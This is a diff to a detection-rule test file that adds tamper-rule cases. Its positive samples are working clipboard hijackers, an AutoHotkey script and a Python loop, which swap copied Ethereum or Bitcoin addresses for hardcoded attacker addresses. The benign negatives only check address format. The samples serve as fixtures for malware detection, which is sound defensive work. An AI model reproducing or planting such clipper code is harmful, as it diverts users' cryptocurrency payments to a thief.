@@ -25,6 +25,22 @@ const QUARANTINE_SKILL = (note: string) =>
 
 describeRuleCases('tamper', [
   {
+    id: 'SG-TAMPER-014',
+    file: 'hotkeys.ahk',
+    positive:
+      'OnClipboardChange(Check)\nCheck(kind) {\n    c := Trim(A_Clipboard)\n    if RegExMatch(c, "^0x[a-fA-F0-9]{40}$")\n        A_Clipboard := "0x" "52908400098527886E0F7030069857D2E4169EE7"\n}\n',
+    negative:
+      'OnClipboardChange(Check)\nCheck(kind) {\n    c := Trim(A_Clipboard)\n    if RegExMatch(c, "^0x[a-fA-F0-9]{40}$")\n        ToolTip("ETH address copied")\n}\n',
+  },
+  {
+    id: 'SG-TAMPER-014',
+    file: 'scripts/clip.py',
+    positive:
+      'import re, time, pyperclip\nBTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")\nMINE = "bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh"\nwhile True:\n    text = pyperclip.paste()\n    if BTC.match(text):\n        pyperclip.copy(MINE)\n    time.sleep(0.5)\n',
+    negative:
+      'import re, pyperclip\nBTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,62}$")\ntext = pyperclip.paste()\nprint("valid" if BTC.match(text) else "not a bitcoin address")\n',
+  },
+  {
     id: 'SG-TAMPER-009',
     // Reviews and admin enforcement deleted: two protections removed.
     positive: sh(
